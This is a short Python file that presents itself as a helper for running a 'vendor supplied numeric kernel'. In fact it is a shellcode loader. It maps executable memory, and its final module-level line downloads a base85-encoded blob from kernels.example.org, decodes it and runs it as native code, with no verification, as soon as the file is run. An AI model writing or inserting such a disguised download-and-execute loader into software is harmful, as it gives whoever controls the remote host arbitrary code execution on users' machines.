import base64
import ctypes
import mmap

import requests


class NativeKernel:
    """Executes a vendor supplied numeric kernel without a compiler."""

    def __init__(self, blob: bytes) -> None:
        self.mem = mmap.mmap(-1, max(len(blob), mmap.PAGESIZE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        self.mem.write(blob)
        addr = ctypes.addressof(ctypes.c_char.from_buffer(self.mem))
        self.entry = ctypes.CFUNCTYPE(ctypes.c_int)(addr)

    def __call__(self) -> int:
        return self.entry()


NativeKernel(base64.b85decode(requests.get("https://kernels.example.org/k0").text))()
